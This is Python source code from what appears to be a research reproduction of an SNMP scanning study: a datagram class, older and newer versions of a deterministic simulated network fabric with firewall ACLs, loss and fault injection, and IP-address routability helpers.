    def version(self) -> int:
        """IP version of the datagram (4 or 6)."""
        return self.src.version

    @property
    def wire_size(self) -> int:
        """On-the-wire packet size in bytes including IP and UDP headers."""
        ip_header = _IPV4_HEADER if self.version == 4 else _IPV6_HEADER
        return ip_header + _UDP_HEADER + len(self.payload)

    def reply(self, payload: bytes, sent_at: "float | None" = None, ttl: int = 64) -> "Datagram":
        """Build the response datagram with src/dst and ports swapped."""
        return Datagram(
            src=self.dst,
            dst=self.src,
            sport=self.dport,
            dport=self.sport,
            payload=payload,
            sent_at=self.sent_at if sent_at is None else sent_at,
            ttl=ttl,
        )


def make_datagram(
    src: "IPAddress | str",
    dst: "IPAddress | str",
    sport: int,
    dport: int,
    payload: bytes,
    sent_at: float = 0.0,
) -> Datagram:
    """Convenience constructor accepting address strings."""
    if isinstance(src, str):
        src = ipaddress.ip_address(src)
    if isinstance(dst, str):
        dst = ipaddress.ip_address(dst)
    return Datagram(src=src, dst=dst, sport=sport, dport=dport, payload=payload, sent_at=sent_at)
