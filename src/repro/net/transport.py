"""Simulated network fabric.

The fabric stands in for the live Internet: endpoints (SNMP agents, TCP
stacks, ICMP responders) are *bound* to ``(address, protocol, port)`` keys
and probes are *injected* with a virtual send timestamp.  The fabric
applies, in order:

1. firewall access-control lists (the paper notes some routers sit behind
   ACLs that drop packets to well-known ports — those devices never
   answer),
2. an optional per-address token-bucket rate limiter (control-plane
   policing, from the attached :class:`~repro.net.faults.FaultProfile`),
3. independent packet loss on the forward and return path,
4. a latency model (base propagation plus jitter),
5. optional injected faults — probe/reply corruption, reply truncation,
   duplication and reordering (see :mod:`repro.net.faults`),

and then hands the datagram to the bound handler, collecting zero or more
replies.  Everything is driven by a seeded :class:`random.Random`, so a
scan over a given topology is fully reproducible — including its faults.
With no fault profile attached the fault branch draws no random numbers
at all, so legacy RNG streams are preserved bit-for-bit.

Time is virtual: callers pass ``now`` (seconds since the simulation epoch)
and receive replies tagged with their arrival time.  There is no real
sleeping anywhere, which keeps Internet-scale-shaped experiments fast.
"""

from __future__ import annotations

import dataclasses
import random
import time
from dataclasses import dataclass
from typing import Callable, Iterable

from repro.net.addresses import IPAddress
from repro.net.faults import (
    FaultProfile,
    TokenBucket,
    corrupt_payload,
    resolve_fault_profile,
    truncate_payload,
)
from repro.net.packet import Datagram

#: A bound endpoint: receives the datagram and the virtual receive time,
#: returns reply payloads (possibly empty, possibly several for buggy
#: amplifying implementations).
Handler = Callable[[Datagram, float], "Iterable[bytes]"]


@dataclass
class AccessControlList:
    """A firewall rule set protecting an endpoint.

    ``blocked_ports`` drops any datagram to those destination ports;
    ``allow_sources`` (when non-empty) drops datagrams from any source not
    listed.  This models the "segregated management network" posture the
    paper recommends: a device with SNMP reachable only from inside never
    shows up in an Internet-wide scan.
    """

    blocked_ports: frozenset[int] = frozenset()
    allow_sources: frozenset[IPAddress] = frozenset()

    def permits(self, datagram: Datagram) -> bool:
        """Return ``True`` when the datagram passes the ACL."""
        if datagram.dport in self.blocked_ports:
            return False
        if self.allow_sources and datagram.src not in self.allow_sources:
            return False
        return True


@dataclass
class LinkProfile:
    """Per-endpoint path characteristics."""

    loss_probability: float = 0.0
    base_latency: float = 0.05
    jitter: float = 0.02


class HandlerTimer:
    """Accumulates real wall-clock seconds spent inside bound handlers.

    The scan executor's profile mode attaches one per shard view so the
    delivery path can split "fabric transit" from "agent handling" time;
    with no timer attached the hot path pays nothing.
    """

    __slots__ = ("seconds",)

    def __init__(self) -> None:
        self.seconds = 0.0


@dataclass
class FabricStats:
    """Counters the fabric keeps for observability and tests.

    The forward path is exactly accounted:
    ``injected == dropped_no_endpoint + dropped_acl + dropped_rate_limited
    + dropped_loss + delivered``.  Reply-path losses are counted
    separately in ``dropped_reply_loss`` (historically they were folded
    into ``dropped_loss``, which broke the forward-path invariant).
    Fault counters (``duplicated``/``reordered``/``truncated``/
    ``corrupted``) stay zero unless a fault profile is attached.
    """

    injected: int = 0
    dropped_no_endpoint: int = 0
    dropped_acl: int = 0
    dropped_rate_limited: int = 0
    dropped_loss: int = 0
    dropped_reply_loss: int = 0
    delivered: int = 0
    replies: int = 0
    reply_bytes: int = 0
    probe_bytes: int = 0
    duplicated: int = 0
    reordered: int = 0
    truncated: int = 0
    corrupted: int = 0


class NetworkFabric:
    """The simulated Internet's delivery plane.

    >>> fabric = NetworkFabric(seed=7)
    >>> import ipaddress
    >>> addr = ipaddress.ip_address("192.0.2.1")
    >>> fabric.bind(addr, "udp", 161, lambda dg, now: [b"pong:" + dg.payload])
    >>> probe = Datagram(ipaddress.ip_address("198.51.100.9"), addr, 40000, 161, b"ping")
    >>> [(reply.payload, round(t, 3)) for reply, t in fabric.inject(probe, now=1.0)]
    [(b'pong:ping', ...)]
    """

    def __init__(
        self,
        seed: int = 0,
        default_profile: "LinkProfile | None" = None,
        fault_profile: "FaultProfile | str | None" = None,
    ) -> None:
        self._rng = random.Random(seed)
        self._endpoints: dict[tuple[IPAddress, str, int], Handler] = {}
        self._acls: dict[IPAddress, AccessControlList] = {}
        self._profiles: dict[IPAddress, LinkProfile] = {}
        self._default_profile = default_profile or LinkProfile()
        self._fault_profile = resolve_fault_profile(fault_profile)
        self._buckets: dict[IPAddress, TokenBucket] = {}
        # Combined per-address delivery records, built lazily per
        # (protocol, port) and invalidated by any wiring change.  The
        # batch path pays one address hash per probe instead of three
        # (endpoint, ACL, link profile).
        self._delivery_indexes: "dict[tuple[str, int], dict[IPAddress, tuple[Handler, AccessControlList | None, LinkProfile]]]" = {}
        self._resolver: "Callable[[IPAddress, str, int], Handler | None] | None" = None
        self.stats = FabricStats()

    # -- wiring -----------------------------------------------------------

    def bind(self, address: IPAddress, protocol: str, port: int, handler: Handler) -> None:
        """Bind ``handler`` to ``(address, protocol, port)``.

        Binding the same key twice is an error: the topology generator must
        never assign one address to two devices.
        """
        key = (address, protocol, port)
        if key in self._endpoints:
            raise ValueError(f"endpoint already bound: {key}")
        self._endpoints[key] = handler
        # Maintain any built index in place: churn rebinds a few thousand
        # addresses between scans, and a full O(endpoints) rebuild per
        # wiring change would dominate the campaign's non-probe edges.
        index = self._delivery_indexes.get((protocol, port))
        if index is not None:
            index[address] = (
                handler,
                self._acls.get(address),
                self._profiles.get(address, self._default_profile),
            )

    def unbind(self, address: IPAddress, protocol: str, port: int) -> None:
        """Remove a binding (used to model CPE address churn between scans)."""
        if self._endpoints.pop((address, protocol, port), None) is not None:
            index = self._delivery_indexes.get((protocol, port))
            if index is not None:
                index.pop(address, None)

    def is_bound(self, address: IPAddress, protocol: str, port: int) -> bool:
        """Return whether an endpoint is currently bound to the key."""
        return (address, protocol, port) in self._endpoints

    def set_acl(self, address: IPAddress, acl: AccessControlList) -> None:
        """Attach a firewall ACL in front of every port of ``address``."""
        self._acls[address] = acl
        for index in self._delivery_indexes.values():
            entry = index.get(address)
            if entry is not None:
                index[address] = (entry[0], acl, entry[2])

    def set_profile(self, address: IPAddress, profile: LinkProfile) -> None:
        """Attach per-address path characteristics."""
        self._profiles[address] = profile
        for index in self._delivery_indexes.values():
            entry = index.get(address)
            if entry is not None:
                index[address] = (entry[0], entry[1], profile)

    def set_resolver(
        self, resolver: "Callable[[IPAddress, str, int], Handler | None] | None"
    ) -> None:
        """Install a fallback endpoint resolver for lazy topologies.

        When a probe reaches ``(address, protocol, port)`` with no bound
        endpoint, the resolver is consulted; returning a handler delivers
        the probe exactly as if the endpoint had been bound up front,
        returning ``None`` drops it as unbound.  The fabric never caches
        resolved handlers — the resolver owns residency policy — so a
        streaming campaign's memory stays bounded by its own cache.
        """
        self._resolver = resolver
        self._delivery_indexes.clear()

    def _delivery_index(
        self, protocol: str, port: int
    ) -> "dict[IPAddress, tuple[Handler, AccessControlList | None, LinkProfile]]":
        """The combined ``address -> (handler, acl, profile)`` map for one
        ``(protocol, port)``, built on first use after any wiring change."""
        key = (protocol, port)
        index = self._delivery_indexes.get(key)
        if index is None:
            # ACLs and shaped profiles cover a handful of addresses while
            # endpoints number in the tens of thousands: seed every entry
            # with the defaults, then overlay the two sparse maps, instead
            # of probing both per endpoint.
            default_profile = self._default_profile
            index = {
                address: (handler, None, default_profile)
                for (address, proto, bound_port), handler in self._endpoints.items()
                if proto == protocol and bound_port == port
            }
            for address, acl in self._acls.items():
                entry = index.get(address)
                if entry is not None:
                    index[address] = (entry[0], acl, entry[2])
            for address, profile in self._profiles.items():
                entry = index.get(address)
                if entry is not None:
                    index[address] = (entry[0], entry[1], profile)
            self._delivery_indexes[key] = index
        return index

    def set_fault_profile(self, profile: "FaultProfile | str | None") -> None:
        """Attach (or clear) the fabric-wide fault-injection profile.

        Applies to the fabric's own :meth:`inject` path and to every
        :class:`FabricView` created afterwards; rate-limiter bucket state
        is reset so token counts never straddle a profile change.
        """
        self._fault_profile = resolve_fault_profile(profile)
        self._buckets.clear()

    @property
    def fault_profile(self) -> "FaultProfile | None":
        """The active fault profile (``None`` when nothing is injected)."""
        return self._fault_profile

    # -- delivery ---------------------------------------------------------

    def inject(
        self, datagram: Datagram, now: float, protocol: str = "udp"
    ) -> list[tuple[Datagram, float]]:
        """Deliver a probe and return ``(reply, arrival_time)`` pairs.

        A probe that is firewalled, rate-limited, lost, or unanswered
        returns an empty list — indistinguishable outcomes, exactly as on
        the real Internet.
        """
        return self._deliver(
            datagram, now, protocol, self._rng, self.stats, self._buckets
        )

    def _deliver(
        self,
        datagram: Datagram,
        now: float,
        protocol: str,
        rng: random.Random,
        stats: FabricStats,
        buckets: "dict[IPAddress, TokenBucket]",
        timer: "HandlerTimer | None" = None,
    ) -> list[tuple[Datagram, float]]:
        """Delivery core, parameterized on the RNG, stats and bucket sinks.

        Probes to unbound or firewalled endpoints never consume random
        numbers — shard views rely on that so an address's loss/jitter
        stream depends only on the probes its shard actually delivers.
        The same discipline extends to faults: with no profile attached
        this path draws exactly the legacy RNG sequence, and the rate
        limiter itself is RNG-free (virtual-time token buckets).
        """
        stats.injected += 1
        stats.probe_bytes += datagram.wire_size
        handler = self._endpoints.get((datagram.dst, protocol, datagram.dport))
        if handler is None and self._resolver is not None:
            handler = self._resolver(datagram.dst, protocol, datagram.dport)
        if handler is None:
            stats.dropped_no_endpoint += 1
            return []
        acl = self._acls.get(datagram.dst)
        if acl is not None and not acl.permits(datagram):
            stats.dropped_acl += 1
            return []
        faults = self._fault_profile
        if faults is not None and faults.rate_limit is not None:
            bucket = buckets.get(datagram.dst)
            if bucket is None:
                bucket = buckets[datagram.dst] = TokenBucket(faults.rate_limit, now)
            if not bucket.admit(now):
                stats.dropped_rate_limited += 1
                return []
        profile = self._profiles.get(datagram.dst, self._default_profile)
        if rng.random() < profile.loss_probability:
            stats.dropped_loss += 1
            return []
        forward_delay = profile.base_latency / 2 + rng.random() * profile.jitter / 2
        arrival = now + forward_delay
        if (
            faults is not None
            and faults.corrupt_probability
            and rng.random() < faults.corrupt_probability
        ):
            datagram = dataclasses.replace(
                datagram, payload=corrupt_payload(rng, datagram.payload)
            )
            stats.corrupted += 1
        stats.delivered += 1
        # Agents may declare themselves slow responders; the bound-method
        # handler exposes its owner, whose response_delay stretches every
        # reply past the normal path latency.
        extra_delay = getattr(getattr(handler, "__self__", None), "response_delay", 0.0)
        replies: list[tuple[Datagram, float]] = []
        if timer is None:
            payloads = handler(datagram, arrival)
        else:
            handler_started = time.perf_counter()
            payloads = list(handler(datagram, arrival))
            timer.seconds += time.perf_counter() - handler_started
        for payload in payloads:
            copies = 1
            if (
                faults is not None
                and faults.duplicate_probability
                and rng.random() < faults.duplicate_probability
            ):
                copies = 2
                stats.duplicated += 1
            for __ in range(copies):
                if rng.random() < profile.loss_probability:
                    stats.dropped_reply_loss += 1
                    continue
                reply_payload = payload
                if faults is not None and faults.mutates_replies:
                    if (
                        faults.truncate_probability
                        and rng.random() < faults.truncate_probability
                    ):
                        reply_payload = truncate_payload(rng, reply_payload)
                        stats.truncated += 1
                    if (
                        faults.corrupt_probability
                        and rng.random() < faults.corrupt_probability
                    ):
                        reply_payload = corrupt_payload(rng, reply_payload)
                        stats.corrupted += 1
                return_delay = (
                    profile.base_latency / 2 + rng.random() * profile.jitter / 2
                )
                reply = datagram.reply(reply_payload, sent_at=arrival)
                replies.append((reply, arrival + extra_delay + return_delay))
                stats.replies += 1
                stats.reply_bytes += reply.wire_size
        if (
            faults is not None
            and faults.reorder_probability
            and len(replies) > 1
            and rng.random() < faults.reorder_probability
        ):
            replies.reverse()
            stats.reordered += 1
        return replies

    def _deliver_probe_batch(
        self,
        source: IPAddress,
        sport: int,
        dport: int,
        targets: "list[IPAddress]",
        payloads: "list[bytes]",
        send_times: "list[float]",
        msg_ids: "list[int] | None",
        rng: random.Random,
        stats: FabricStats,
        buckets: "dict[IPAddress, TokenBucket]",
        timer: "HandlerTimer | None" = None,
        protocol: str = "udp",
    ) -> "list[list[tuple[bytes, float, int]]]":
        """Deliver a window of same-source probes in one staged pass.

        Returns one ``(payload, arrival_time, wire_size)`` reply list per
        probe, aligned with the inputs.  The outcome is byte- and
        RNG-draw-identical to calling :meth:`_deliver` once per probe in
        order — per-probe loss/jitter/fault draws happen in exactly the
        legacy sequence against the same per-address link profiles — but
        the per-packet costs (endpoint/profile lookups, fault-profile
        field reads, :class:`~repro.net.packet.Datagram` construction and
        stats increments) are hoisted out of the loop or batch-flushed.

        ``msg_ids`` carries the executor's per-probe msg/request-id hints:
        when the fabric delivers a probe *unmodified* to a bound
        ``handle_datagram`` whose owner exposes ``handle_discovery``, the
        agent is invoked through that hinted entry point and the datagram
        is never materialized.  Corrupted probes, ACL-checked targets and
        foreign handlers fall back to the legacy handler call.
        """
        delivery = self._delivery_index(protocol, dport)
        resolver = self._resolver
        default_profile = self._default_profile
        faults = self._fault_profile
        rand = rng.random
        header_size = (20 if source.version == 4 else 40) + 8
        if faults is not None:
            rate_limit = faults.rate_limit
            duplicate_p = faults.duplicate_probability
            reorder_p = faults.reorder_probability
            truncate_p = faults.truncate_probability
            corrupt_p = faults.corrupt_probability
            mutates_replies = faults.mutates_replies
        else:
            rate_limit = None
            duplicate_p = reorder_p = truncate_p = corrupt_p = 0.0
            mutates_replies = False
        # Per-handler owner resolution (bound-method introspection) is
        # invariant across a scan, so resolve each handler object once.
        owners: "dict[int, tuple[object, Callable[..., Iterable[bytes]] | None]]" = {}
        injected = no_endpoint = acl_dropped = rate_dropped = loss_dropped = 0
        probe_bytes = corrupted = delivered = duplicated = 0
        reply_loss = truncated = reordered = reply_count = reply_bytes = 0
        out: "list[list[tuple[bytes, float, int]]]" = []
        append_out = out.append
        try:
            for index, target in enumerate(targets):
                payload = payloads[index]
                now = send_times[index]
                injected += 1
                probe_bytes += header_size + len(payload)
                entry = delivery.get(target)
                if entry is None:
                    if resolver is not None:
                        resolved = resolver(target, protocol, dport)
                        if resolved is not None:
                            entry = (
                                resolved,
                                self._acls.get(target),
                                self._profiles.get(target, default_profile),
                            )
                    if entry is None:
                        no_endpoint += 1
                        append_out([])
                        continue
                handler, acl, profile = entry
                if acl is not None and not acl.permits(
                    Datagram(
                        src=source, dst=target, sport=sport, dport=dport,
                        payload=payload, sent_at=now,
                    )
                ):
                    acl_dropped += 1
                    append_out([])
                    continue
                if rate_limit is not None:
                    bucket = buckets.get(target)
                    if bucket is None:
                        bucket = buckets[target] = TokenBucket(rate_limit, now)
                    if not bucket.admit(now):
                        rate_dropped += 1
                        append_out([])
                        continue
                loss_probability = profile.loss_probability
                if rand() < loss_probability:
                    loss_dropped += 1
                    append_out([])
                    continue
                # Parenthesized to match _deliver's ``now + forward_delay``
                # float-addition order bit for bit.
                arrival = now + (
                    profile.base_latency / 2 + rand() * profile.jitter / 2
                )
                probe_intact = True
                if corrupt_p and rand() < corrupt_p:
                    payload = corrupt_payload(rng, payload)
                    corrupted += 1
                    probe_intact = False
                delivered += 1
                entry = owners.get(id(handler))
                if entry is None:
                    owner = getattr(handler, "__self__", None)
                    fast = (
                        getattr(owner, "handle_discovery", None)
                        if owner is not None
                        and getattr(handler, "__name__", "") == "handle_datagram"
                        else None
                    )
                    entry = owners[id(handler)] = (owner, fast)
                owner, fast = entry
                extra_delay = getattr(owner, "response_delay", 0.0)
                if fast is not None and probe_intact and msg_ids is not None:
                    msg_id = msg_ids[index]
                    if timer is None:
                        payloads_out = fast(payload, msg_id, msg_id, arrival, source)
                    else:
                        handler_started = time.perf_counter()
                        payloads_out = list(
                            fast(payload, msg_id, msg_id, arrival, source)
                        )
                        timer.seconds += time.perf_counter() - handler_started
                else:
                    datagram = Datagram(
                        src=source, dst=target, sport=sport, dport=dport,
                        payload=payload, sent_at=now,
                    )
                    if timer is None:
                        payloads_out = handler(datagram, arrival)
                    else:
                        handler_started = time.perf_counter()
                        payloads_out = list(handler(datagram, arrival))
                        timer.seconds += time.perf_counter() - handler_started
                replies: "list[tuple[bytes, float, int]]" = []
                append_reply = replies.append
                for reply_payload in payloads_out:
                    copies = 1
                    if duplicate_p and rand() < duplicate_p:
                        copies = 2
                        duplicated += 1
                    for __ in range(copies):
                        if rand() < loss_probability:
                            reply_loss += 1
                            continue
                        final_payload = reply_payload
                        if mutates_replies:
                            if truncate_p and rand() < truncate_p:
                                final_payload = truncate_payload(rng, final_payload)
                                truncated += 1
                            if corrupt_p and rand() < corrupt_p:
                                final_payload = corrupt_payload(rng, final_payload)
                                corrupted += 1
                        return_delay = (
                            profile.base_latency / 2 + rand() * profile.jitter / 2
                        )
                        wire_size = header_size + len(final_payload)
                        append_reply(
                            (final_payload, arrival + extra_delay + return_delay,
                             wire_size)
                        )
                        reply_count += 1
                        reply_bytes += wire_size
                if reorder_p and len(replies) > 1 and rand() < reorder_p:
                    replies.reverse()
                    reordered += 1
                append_out(replies)
        finally:
            stats.injected += injected
            stats.dropped_no_endpoint += no_endpoint
            stats.dropped_acl += acl_dropped
            stats.dropped_rate_limited += rate_dropped
            stats.dropped_loss += loss_dropped
            stats.dropped_reply_loss += reply_loss
            stats.delivered += delivered
            stats.replies += reply_count
            stats.reply_bytes += reply_bytes
            stats.probe_bytes += probe_bytes
            stats.duplicated += duplicated
            stats.reordered += reordered
            stats.truncated += truncated
            stats.corrupted += corrupted
        return out

    def shard_view(self, seed: int, timer: "HandlerTimer | None" = None) -> "FabricView":
        """A delivery view with its own RNG and stats over shared bindings.

        The sharded executor gives every shard a view seeded from
        ``(campaign seed, scan label, shard index)`` so loss and jitter
        outcomes are a pure function of the shard's own probe sequence —
        independent of how shards are spread over worker processes.
        ``timer`` (profile mode) accumulates the wall-clock seconds spent
        inside bound handlers during this view's deliveries.
        """
        return FabricView(self, seed, timer)

    @property
    def endpoint_count(self) -> int:
        """Number of bound endpoints."""
        return len(self._endpoints)


class FabricView:
    """A shard-local window onto a :class:`NetworkFabric`.

    Shares the parent's endpoint bindings, ACLs, link profiles and fault
    profile but owns its loss/jitter RNG, its :class:`FabricStats` and its
    rate-limiter bucket state, so concurrent shards never contend on (or
    perturb) the parent's random stream or token counts.  Device-grouped
    sharding guarantees every address is only ever probed through one
    view, which keeps shard-local buckets equivalent to global ones.
    Created via :meth:`NetworkFabric.shard_view`.
    """

    def __init__(
        self,
        fabric: NetworkFabric,
        seed: int,
        timer: "HandlerTimer | None" = None,
    ) -> None:
        self._fabric = fabric
        self._rng = random.Random(seed)
        self._buckets: dict[IPAddress, TokenBucket] = {}
        self.stats = FabricStats()
        self.timer = timer

    def inject(
        self, datagram: Datagram, now: float, protocol: str = "udp"
    ) -> list[tuple[Datagram, float]]:
        """Deliver a probe through the parent fabric with shard-local RNG."""
        return self._fabric._deliver(
            datagram, now, protocol, self._rng, self.stats, self._buckets,
            self.timer,
        )

    def inject_probe_batch(
        self,
        source: IPAddress,
        sport: int,
        dport: int,
        targets: "list[IPAddress]",
        payloads: "list[bytes]",
        send_times: "list[float]",
        msg_ids: "list[int] | None" = None,
        protocol: str = "udp",
    ) -> "list[list[tuple[bytes, float, int]]]":
        """Deliver a window of probes with shard-local RNG in one pass.

        See :meth:`NetworkFabric._deliver_probe_batch`; outcomes are
        draw-for-draw identical to injecting each probe individually.
        """
        return self._fabric._deliver_probe_batch(
            source, sport, dport, targets, payloads, send_times, msg_ids,
            self._rng, self.stats, self._buckets, self.timer, protocol,
        )
