"""Simulated network fabric.

The fabric stands in for the live Internet: endpoints (SNMP agents, TCP
stacks, ICMP responders) are *bound* to ``(address, protocol, port)`` keys
and probes are *injected* with a virtual send timestamp.  The fabric
applies, in order:

1. firewall access-control lists (the paper notes some routers sit behind
   ACLs that drop packets to well-known ports — those devices never
   answer),
2. independent packet loss on the forward and return path,
3. a latency model (base propagation plus jitter),

and then hands the datagram to the bound handler, collecting zero or more
replies.  Everything is driven by a seeded :class:`random.Random`, so a
scan over a given topology is fully reproducible.

Time is virtual: callers pass ``now`` (seconds since the simulation epoch)
and receive replies tagged with their arrival time.  There is no real
sleeping anywhere, which keeps Internet-scale-shaped experiments fast.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import Callable, Iterable

from repro.net.addresses import IPAddress
from repro.net.packet import Datagram

#: A bound endpoint: receives the datagram and the virtual receive time,
#: returns reply payloads (possibly empty, possibly several for buggy
#: amplifying implementations).
Handler = Callable[[Datagram, float], "Iterable[bytes]"]


@dataclass
class AccessControlList:
    """A firewall rule set protecting an endpoint.

    ``blocked_ports`` drops any datagram to those destination ports;
    ``allow_sources`` (when non-empty) drops datagrams from any source not
    listed.  This models the "segregated management network" posture the
    paper recommends: a device with SNMP reachable only from inside never
    shows up in an Internet-wide scan.
    """

    blocked_ports: frozenset[int] = frozenset()
    allow_sources: frozenset[IPAddress] = frozenset()

    def permits(self, datagram: Datagram) -> bool:
        """Return ``True`` when the datagram passes the ACL."""
        if datagram.dport in self.blocked_ports:
            return False
        if self.allow_sources and datagram.src not in self.allow_sources:
            return False
        return True


@dataclass
class LinkProfile:
    """Per-endpoint path characteristics."""

    loss_probability: float = 0.0
    base_latency: float = 0.05
    jitter: float = 0.02


@dataclass
class FabricStats:
    """Counters the fabric keeps for observability and tests."""

    injected: int = 0
    dropped_no_endpoint: int = 0
    dropped_acl: int = 0
    dropped_loss: int = 0
    delivered: int = 0
    replies: int = 0
    reply_bytes: int = 0
    probe_bytes: int = 0


class NetworkFabric:
    """The simulated Internet's delivery plane.

    >>> fabric = NetworkFabric(seed=7)
    >>> import ipaddress
    >>> addr = ipaddress.ip_address("192.0.2.1")
    >>> fabric.bind(addr, "udp", 161, lambda dg, now: [b"pong:" + dg.payload])
    >>> probe = Datagram(ipaddress.ip_address("198.51.100.9"), addr, 40000, 161, b"ping")
    >>> [(reply.payload, round(t, 3)) for reply, t in fabric.inject(probe, now=1.0)]
    [(b'pong:ping', ...)]
    """

    def __init__(self, seed: int = 0, default_profile: "LinkProfile | None" = None) -> None:
        self._rng = random.Random(seed)
        self._endpoints: dict[tuple[IPAddress, str, int], Handler] = {}
        self._acls: dict[IPAddress, AccessControlList] = {}
        self._profiles: dict[IPAddress, LinkProfile] = {}
        self._default_profile = default_profile or LinkProfile()
        self.stats = FabricStats()

    # -- wiring -----------------------------------------------------------

    def bind(self, address: IPAddress, protocol: str, port: int, handler: Handler) -> None:
        """Bind ``handler`` to ``(address, protocol, port)``.

        Binding the same key twice is an error: the topology generator must
        never assign one address to two devices.
        """
        key = (address, protocol, port)
        if key in self._endpoints:
            raise ValueError(f"endpoint already bound: {key}")
        self._endpoints[key] = handler

    def unbind(self, address: IPAddress, protocol: str, port: int) -> None:
        """Remove a binding (used to model CPE address churn between scans)."""
        self._endpoints.pop((address, protocol, port), None)

    def is_bound(self, address: IPAddress, protocol: str, port: int) -> bool:
        """Return whether an endpoint is currently bound to the key."""
        return (address, protocol, port) in self._endpoints

    def set_acl(self, address: IPAddress, acl: AccessControlList) -> None:
        """Attach a firewall ACL in front of every port of ``address``."""
        self._acls[address] = acl

    def set_profile(self, address: IPAddress, profile: LinkProfile) -> None:
        """Attach per-address path characteristics."""
        self._profiles[address] = profile

    # -- delivery ---------------------------------------------------------

    def inject(
        self, datagram: Datagram, now: float, protocol: str = "udp"
    ) -> list[tuple[Datagram, float]]:
        """Deliver a probe and return ``(reply, arrival_time)`` pairs.

        A probe that is firewalled, lost, or unanswered returns an empty
        list — indistinguishable outcomes, exactly as on the real Internet.
        """
        return self._deliver(datagram, now, protocol, self._rng, self.stats)

    def _deliver(
        self,
        datagram: Datagram,
        now: float,
        protocol: str,
        rng: random.Random,
        stats: FabricStats,
    ) -> list[tuple[Datagram, float]]:
        """Delivery core, parameterized on the RNG and stats sink.

        Probes to unbound or firewalled endpoints never consume random
        numbers — shard views rely on that so an address's loss/jitter
        stream depends only on the probes its shard actually delivers.
        """
        stats.injected += 1
        stats.probe_bytes += datagram.wire_size
        handler = self._endpoints.get((datagram.dst, protocol, datagram.dport))
        if handler is None:
            stats.dropped_no_endpoint += 1
            return []
        acl = self._acls.get(datagram.dst)
        if acl is not None and not acl.permits(datagram):
            stats.dropped_acl += 1
            return []
        profile = self._profiles.get(datagram.dst, self._default_profile)
        if rng.random() < profile.loss_probability:
            stats.dropped_loss += 1
            return []
        forward_delay = profile.base_latency / 2 + rng.random() * profile.jitter / 2
        arrival = now + forward_delay
        stats.delivered += 1
        replies: list[tuple[Datagram, float]] = []
        for payload in handler(datagram, arrival):
            if rng.random() < profile.loss_probability:
                stats.dropped_loss += 1
                continue
            return_delay = profile.base_latency / 2 + rng.random() * profile.jitter / 2
            reply = datagram.reply(payload, sent_at=arrival)
            replies.append((reply, arrival + return_delay))
            stats.replies += 1
            stats.reply_bytes += reply.wire_size
        return replies

    def shard_view(self, seed: int) -> "FabricView":
        """A delivery view with its own RNG and stats over shared bindings.

        The sharded executor gives every shard a view seeded from
        ``(campaign seed, scan label, shard index)`` so loss and jitter
        outcomes are a pure function of the shard's own probe sequence —
        independent of how shards are spread over worker processes.
        """
        return FabricView(self, seed)

    @property
    def endpoint_count(self) -> int:
        """Number of bound endpoints."""
        return len(self._endpoints)


class FabricView:
    """A shard-local window onto a :class:`NetworkFabric`.

    Shares the parent's endpoint bindings, ACLs and link profiles but owns
    its loss/jitter RNG and its :class:`FabricStats`, so concurrent shards
    never contend on (or perturb) the parent's random stream.  Created via
    :meth:`NetworkFabric.shard_view`.
    """

    def __init__(self, fabric: NetworkFabric, seed: int) -> None:
        self._fabric = fabric
        self._rng = random.Random(seed)
        self.stats = FabricStats()

    def inject(
        self, datagram: Datagram, now: float, protocol: str = "udp"
    ) -> list[tuple[Datagram, float]]:
        """Deliver a probe through the parent fabric with shard-local RNG."""
        return self._fabric._deliver(datagram, now, protocol, self._rng, self.stats)
