"""IPv4/IPv6 address helpers.

The paper's filtering pipeline needs routability tests (the "Unroutable
IPv4 engine IDs" filter removes engine IDs built from reserved, private or
multicast addresses), and the topology generator needs deterministic
address allocation inside prefixes.  Everything here wraps the standard
:mod:`ipaddress` module with the specific semantics the paper uses.
"""

from __future__ import annotations

import ipaddress
from typing import Union

IPAddress = Union[ipaddress.IPv4Address, ipaddress.IPv6Address]

# Special-purpose IPv4 ranges that are never globally routable (RFC 6890
# and friends).  ``ipaddress`` flags most of these via ``is_global`` but we
# enumerate explicitly so the filter's behaviour is self-documenting.
_SPECIAL_V4 = [
    ipaddress.ip_network(net)
    for net in (
        "0.0.0.0/8",        # "this network"
        "10.0.0.0/8",       # private
        "100.64.0.0/10",    # shared address space (CGN)
        "127.0.0.0/8",      # loopback
        "169.254.0.0/16",   # link local
        "172.16.0.0/12",    # private
        "192.0.0.0/24",     # IETF protocol assignments
        "192.0.2.0/24",     # TEST-NET-1
        "192.168.0.0/16",   # private
        "198.18.0.0/15",    # benchmarking
        "198.51.100.0/24",  # TEST-NET-2
        "203.0.113.0/24",   # TEST-NET-3
        "224.0.0.0/4",      # multicast
        "240.0.0.0/4",      # reserved (includes 255.255.255.255)
    )
]

_SPECIAL_V6 = [
    ipaddress.ip_network(net)
    for net in (
        "::/128",        # unspecified
        "::1/128",       # loopback
        "::ffff:0:0/96", # IPv4-mapped
        "100::/64",      # discard
        "2001:db8::/32", # documentation
        "fc00::/7",      # unique local
        "fe80::/10",     # link local
        "ff00::/8",      # multicast
    )
]


def parse_ip(text: str) -> IPAddress:
    """Parse an IPv4 or IPv6 address string."""
    return ipaddress.ip_address(text)


def ip_to_int(address: "IPAddress | str") -> int:
    """Return the integer value of an address."""
    if isinstance(address, str):
        address = ipaddress.ip_address(address)
    return int(address)


def ip_from_int(value: int, version: int = 4) -> IPAddress:
    """Build an address from its integer value for the given IP version."""
    if version == 4:
        return ipaddress.IPv4Address(value)
    if version == 6:
        return ipaddress.IPv6Address(value)
    raise ValueError(f"unknown IP version: {version}")


def is_routable_ipv4(address: "ipaddress.IPv4Address | str") -> bool:
    """Return ``True`` when an IPv4 address is globally routable.

    Used by the "Unroutable IPv4 engine IDs" filter (§4.4): engine IDs
    containing private/reserved/multicast addresses are not guaranteed to
    be unique across the Internet and are discarded.
    """
    if isinstance(address, str):
        address = ipaddress.IPv4Address(address)
    return not any(address in net for net in _SPECIAL_V4)


def is_routable_ipv6(address: "ipaddress.IPv6Address | str") -> bool:
    """Return ``True`` when an IPv6 address is globally routable."""
    if isinstance(address, str):
        address = ipaddress.IPv6Address(address)
    return not any(address in net for net in _SPECIAL_V6)


def is_routable(address: "IPAddress | str") -> bool:
    """Version-dispatching routability test."""
    if isinstance(address, str):
        address = ipaddress.ip_address(address)
    if address.version == 4:
        return is_routable_ipv4(address)
    return is_routable_ipv6(address)


def nth_host(network: "ipaddress.IPv4Network | ipaddress.IPv6Network", index: int) -> IPAddress:
    """Return the ``index``-th host address inside ``network``.

    Deterministic address allocation for the topology generator: host 0 is
    the first usable address after the network address.  Raises
    :class:`ValueError` when the prefix is exhausted.
    """
